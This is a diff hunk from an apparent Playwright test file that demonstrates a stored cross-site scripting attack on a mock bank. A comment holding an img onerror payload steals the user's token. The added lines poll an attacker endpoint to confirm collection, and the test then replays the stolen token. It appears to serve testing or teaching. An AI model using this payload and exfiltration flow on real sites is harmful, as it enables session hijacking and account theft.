@@ -71,6 +71,9 @@ test('a script in a comment steals the token of the bank, and the attacker uses 
   await page.getByLabel('Your comment').fill(`<img src="/none" onerror="${steal}">`);
   await page.getByRole('button', { name: 'Publish' }).click();
 
+  // The script runs when the page shows the comment.
+  await expect.poll(async () => (await page.request.get(bank.attack('/seen'))).text()).toContain('collect');
+
   await page.goto(bank.attack('/screen'));
   await page.getByRole('button', { name: 'Use it' }).click();
   await expect(page.getByRole('listitem').last()).toContainText('replay: 200');
